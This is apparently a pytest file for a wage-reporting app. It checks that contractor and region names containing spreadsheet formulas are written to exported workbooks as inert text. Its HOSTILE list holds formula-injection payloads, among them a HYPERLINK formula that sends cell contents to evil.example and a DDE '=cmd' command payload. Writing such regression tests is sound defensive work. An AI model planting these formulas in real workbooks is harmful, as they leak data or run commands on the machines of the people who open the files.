"""Formula injection (security finding 12): names typed by users never become live formulas
in a workbook the application writes."""
from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook, load_workbook

from wagechannel.places.services import create_contractor, ensure_region
from wagechannel.reports.project_import import template_workbook
from wagechannel.reports.workbook import workbook_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击领取工资")', "+SUM(1,1)", "-2+3",
           "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#REF!"]


def every_cell(content: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_contractor_named_like_a_formula_stays_text_in_the_admin_template(db, world) -> None:  # type: ignore[no-untyped-def]
    for number, name in enumerate(HOSTILE):
        create_contractor(db, name=name)
        ensure_region(db, f"45{number:04d}", name)  # region names too: every cell written
    content = template_workbook(db, for_admin=True)
    cells = every_cell(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    for name in HOSTILE:
        assert name.strip() in values  # written as the text it is (names are stored stripped)
    hostile = [cell for cell in cells if cell.value in {name.strip() for name in HOSTILE}]
    assert hostile and all(cell.quotePrefix and cell.data_type == "s" for cell in hostile)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_the_contractor_template_is_safe_too(db, world) -> None:  # type: ignore[no-untyped-def]
    ensure_region(db, "450001", "=1+1")
    cells = every_cell(template_workbook(db, for_admin=False))
    assert "=1+1" in {cell.value for cell in cells}
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["深圳市南山区", 2520, -3, "0755-26661234", "电话 -1"])
    cells = every_cell(workbook_bytes(book))
    assert [cell.value for cell in cells] == ["深圳市南山区", 2520, -3, "0755-26661234", "电话 -1"]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "s", "s"]
    assert not any(cell.quotePrefix for cell in cells)
